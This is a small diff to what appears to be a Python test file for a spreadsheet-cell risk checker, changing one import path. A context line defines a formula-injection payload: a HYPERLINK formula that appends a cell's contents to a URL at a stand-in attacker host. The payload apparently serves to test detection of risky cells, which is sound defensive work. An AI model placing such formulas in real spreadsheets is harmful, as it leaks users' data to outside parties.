@@ -23,7 +23,7 @@ from equimentor.evaluation import definitions
 from equimentor.lib import cells
 from equimentor.lib.cells import is_risky, neutral
 from tests import evaluation_setup as es
-from tests.test_relationships_setup import pair
+from tests.relationships_setup import pair
 
 ROOT = Path(__file__).resolve().parent.parent
 FORMULA = '=HYPERLINK("https://evil.example/?"&D2,"Click")'
